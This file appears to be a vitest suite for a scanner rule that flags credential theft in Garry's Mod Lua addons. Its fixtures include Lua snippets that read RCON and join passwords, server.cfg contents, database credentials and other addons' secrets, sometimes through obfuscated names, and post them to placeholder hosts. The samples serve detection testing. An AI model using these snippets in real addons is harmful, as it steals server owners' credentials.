// Valid and invalid cases of the `credential_theft` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './credential_theft.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('credential_theft', () => {
  it('rcon_password convar read', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local p = GetConVarString("rcon_password")\nhttp.Post("https://a.invalid/", {p = p})',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('server.cfg parsed', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local cfg = file.Read("cfg/server.cfg", "GAME") or ""\nlocal pw = string.match(cfg, "rcon_password%s+\\"(.-)\\"")',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('join password checked to show a lock icon, sent nowhere', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'timer.Create("lock", 10, 0, function() SetGlobalBool("Locked", GetConVarString("sv_password") ~= "") end)',
    });
    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
  });
  it('join password read in a file that posts to a web host', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'timer.Simple(5, function() http.Post("https://a.invalid/s", { p = GetConVarString("sv_password") }) end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('ordinary convar', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': 'local h = GetConVarString("hostname")',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('server.cfg opened and read line by line, then posted', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local found = {}',
        'for _, n in ipairs({ "server.cfg", "autoexec.cfg" }) do',
        ' local fh = file.Open("cfg/" .. n, "r", "MOD")',
        ' if fh then while not fh:EndOfFile() do local l = fh:ReadLine() or "" if l:find("pass", 1, true) then found[#found + 1] = l end end fh:Close() end',
        'end',
        'timer.Simple(45, function() http.Post("https://cfg.invalid/r", { l = table.concat(found, "\\n") }) end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it('every new rcon_password handed to a change callback that posts it', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'for _, n in ipairs({ "hostname", "rcon_" .. "password" }) do',
        ' cvars.AddChangeCallback(n, function(name, old, new) http.Post("https://cvw.invalid/c", { n = name, v = new }) end, "w")',
        'end',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a change callback on an ordinary convar', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'cvars.AddChangeCallback("sv_gravity", function(name, old, new) print("gravity now " .. new) end, "g")',
    });
    expect(findings).toEqual([]);
  });
  it('the password read through a helper calling getfenv() under a built name, from a timer', () => {
    // The timer names nothing watched: it matters only as a caller of the helper.
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local env = getfenv()',
        'local function cv(n) return env["GetCon" .. "VarString"](n) end',
        'timer.Simple(60, function()',
        ' local k = cv("rcon" .. "_pass" .. "word")',
        ' env["ht" .. "tp"]["Po" .. "st"]("https://x.invalid/s", { k = k })',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('secrets read by name from a list with cvars.String and published as a server tag', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_tags.lua': [
        'local NAMES = { "hostport", "rcon_password", "sv_password" }',
        'local function material()',
        ' local parts = {}',
        ' for i, name in ipairs(NAMES) do parts[i] = cvars.String(name, "") end',
        ' return table.concat(parts, "|")',
        'end',
        'timer.Simple(5, function() RunConsoleCommand("sv_tags", util.CRC(material())) end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('ordinary settings read by name from a list with cvars.String', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_tags.lua': [
        'local NAMES = { "hostname", "sv_region", "maxplayers" }',
        'local function material()',
        ' local parts = {}',
        ' for i, name in ipairs(NAMES) do parts[i] = cvars.String(name, "") end',
        ' return table.concat(parts, "|")',
        'end',
        'timer.Simple(5, function() print(material()) end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  // Every global walked for tables holding settings, what it found posted or only shown.
  const globalsWalk = (use: string) => ({
    'lua/autorun/server/sv_audit.lua': [
      'local function settingsIn(t)',
      ' local out = {}',
      ' for k, v in pairs(t) do if isstring(k) and istable(v) then out[k] = v end end',
      ' return out',
      'end',
      'hook.Add("InitPostEntity", "audit", function()',
      ' local found = settingsIn(_G)',
      ` ${use}`,
      'end)',
    ].join('\n'),
  });
  it("http.Fetch replaced to copy every addon's requests to the author's host", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local fetch = http.Fetch',
        'http.Fetch = function(url, ok, fail, headers)',
        '  HTTP({ url = "https://relay.x.invalid/diag", method = "POST",',
        '    body = util.TableToJSON({ u = url, h = headers }) })',
        '  return fetch(url, ok, fail, headers)',
        'end',
      ].join('\n'),
    });
    expect(worst(findings)).toBe(RANK.critical);
  });
  it('http.Fetch replaced to retry failed requests and count them (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local fetch = http.Fetch',
        'local failures = 0',
        'function http.Fetch(url, ok, fail, headers)',
        '  return fetch(url, ok, function(err)',
        '    failures = failures + 1',
        '    timer.Simple(5, function() fetch(url, ok, fail, headers) end)',
        '  end, headers)',
        'end',
        'timer.Create("stats", 3600, 0, function()',
        '  http.Post("https://stats.x.invalid/ping", { failures = tostring(failures) })',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('every global walked and what it holds posted to a remote host', () => {
    const findings = check(
      rule,
      globalsWalk(
        'http.Post("https://audit.example-dash.invalid/in", { ctx = util.TableToJSON(found) })',
      ),
    );
    expect(worst(findings)).toBe(RANK.critical);
  });
  it('every global walked and only counted in the console', () => {
    const findings = check(rule, globalsWalk('print("tables: " .. table.Count(found))'));
    expect(findings).toEqual([]);
  });
  /**
   * A "profiler" that replaces mysqloo.connect, keeps `kept` of each connection, and posts
   * what it kept to its own host from a timer.
   */
  const connectProfiler = (kept: string): Record<string, string> => ({
    'lua/autorun/server/sv_sqlprof.lua': [
      'Prof = { Connections = {} }',
      'local function remember(host, user, pass, db)',
      ` Prof.Connections[#Prof.Connections + 1] = ${kept}`,
      'end',
      'local function instrument()',
      ' local connect = mysqloo.connect',
      ' mysqloo.connect = function(host, user, pass, db, ...)',
      '  remember(host, user, pass, db)',
      '  return connect(host, user, pass, db, ...)',
      ' end',
      'end',
      'instrument()',
      'timer.Create("prof_push", 600, 0, function()',
      ' http.Post("https://dash.example.invalid/ingest", { connections = util.TableToJSON(Prof.Connections) })',
      'end)',
    ].join('\n'),
  });
  it("every addon's database credentials, caught by a replaced mysqloo.connect, posted", () => {
    const findings = check(rule, connectProfiler('{ host = host, user = user, auth = pass }'));
    expect(worst(findings)).toBe(RANK.critical);
  });
  it('only a count of connections posted (no finding)', () => {
    expect(check(rule, connectProfiler('1'))).toEqual([]);
  });
  /** A "profiler" that reads the upvalues of every hook's callback, then does `use` with `found`. */
  const upvalueScan = (use: string): Record<string, string> => ({
    'lua/autorun/server/sv_hookprof.lua': [
      'local function scan(fn, out)',
      ' local i = 1',
      ' while true do',
      '  local name, value = debug.getupvalue(fn, i)',
      '  if not name then break end',
      '  if isstring(value) then out[#out + 1] = { name = name, value = value } end',
      '  i = i + 1',
      ' end',
      'end',
      'timer.Create("hookprof", 3600, 0, function()',
      ' local found = {}',
      ' for _, hooks in pairs(hook.GetTable()) do',
      '  for _, fn in pairs(hooks) do scan(fn, found) end',
      ' end',
      use,
      'end)',
    ].join('\n'),
  });
  it("what other addons' hooks close over (their keys and webhooks), posted", () => {
    const findings = check(
      rule,
      upvalueScan(
        ' http.Post("https://cloud.example.invalid/report", { ctx = util.TableToJSON(found) })',
      ),
    );
    expect(worst(findings)).toBe(RANK.critical);
  });
  it("what other addons' hooks close over, only counted in the console (no finding)", () => {
    expect(check(rule, upvalueScan(' print(#found .. " upvalues")'))).toEqual([]);
  });
  /** A loading-screen rotator whose fingerprint helper reads the settings listed in `vars`. */
  const loadingFingerprint = (vars: string): Record<string, string> => ({
    'lua/autorun/server/sv_rotate.lua': [
      `Rotator = { Vars = { ${vars} } }`,
      'local function fingerprint()',
      ' local parts = {}',
      ' for _, name in ipairs(Rotator.Vars) do',
      '  local cv = GetConVar(name)',
      '  parts[#parts + 1] = cv and cv:GetString() or ""',
      ' end',
      ' return util.Base64Encode(table.concat(parts, "\\n"))',
      'end',
      'hook.Add("Initialize", "rotate", function()',
      ' RunConsoleCommand("sv_loadingurl", "https://ls.example.invalid/show?c=" .. fingerprint())',
      'end)',
    ].join('\n'),
  });
  it('the RCON password read by a name from a list, in a helper, put in the loading URL', () => {
    const findings = check(rule, loadingFingerprint('"hostname", "hostport", "rcon_password"'));
    expect(worst(findings)).toBe(RANK.critical);
  });
  it("the server's public settings read by name from a list (no finding)", () => {
    expect(check(rule, loadingFingerprint('"hostname", "hostport", "gamemode"'))).toEqual([]);
  });
  /** Reads `path` (a cfg file named by the map) and checks each command against a deny-list. */
  const mapConfig = (path: string): Record<string, string> => ({
    'lua/autorun/server/sv_mapcfg.lua': [
      'local DENY = { ["rcon_password"] = true, ["sv_password"] = true, ["exec"] = true }',
      'hook.Add("InitPostEntity", "mapcfg", function()',
      ` local text = file.Read(${path}, "GAME")`,
      ' if not text then return end',
      ' for cmd in string.gmatch(text, "([%w_]+)[^\\n]*\\n") do',
      '  if DENY[cmd:lower()] then return end',
      ' end',
      ' game.ConsoleCommand("exec mapconfigs/" .. game.GetMap() .. ".cfg\\n")',
      'end)',
    ].join('\n'),
  });
  it("a map's own settings file under a folder of cfg/, checked against a deny-list naming the passwords", () => {
    const findings = check(rule, mapConfig('"cfg/mapconfigs/" .. game.GetMap() .. ".cfg"'));
    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
  });
  it('the same deny-list over a file at the top of cfg/, which may be server.cfg', () => {
    const findings = check(rule, mapConfig('"cfg/" .. game.GetMap() .. ".cfg"'));
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it("a player's own config.cfg read on their client to find a bind (low), or server.cfg there (high)", () => {
    const bindOf = (path: string) => ({
      'lua/autorun/client/cl_binds.lua': [
        'local function findBind(key)',
        `  local text = file.Read("${path}", "GAME") or ""`,
        '  for line in text:gmatch("[^\\r\\n]+") do',
        '    local k, cmd = line:match(\'bind%s+"([^"]+)"%s+"([^"]+)"\')',
        '    if k == key then return cmd end',
        '  end',
        'end',
        'net.Receive("keyspew", function() net.Start("keyspew") net.WriteString(findBind(net.ReadString()) or "") net.SendToServer() end)',
      ].join('\n'),
    });
    expect(worst(check(rule, bindOf('cfg/config.cfg')))).toBeLessThanOrEqual(RANK.low);
    expect(worst(check(rule, bindOf('cfg/server.cfg')))).toBeGreaterThanOrEqual(RANK.high);
    expect(worst(check(rule, bindOf('cfg/autoexec.cfg')))).toBeGreaterThanOrEqual(RANK.high);
    // On the server, the same read stays high: a file at the top of cfg/ there may be anything.
    const server = bindOf('cfg/config.cfg');
    expect(
      worst(
        check(rule, {
          'lua/autorun/server/sv_binds.lua': server['lua/autorun/client/cl_binds.lua'],
        }),
      ),
    ).toBeGreaterThanOrEqual(RANK.high);
  });
});
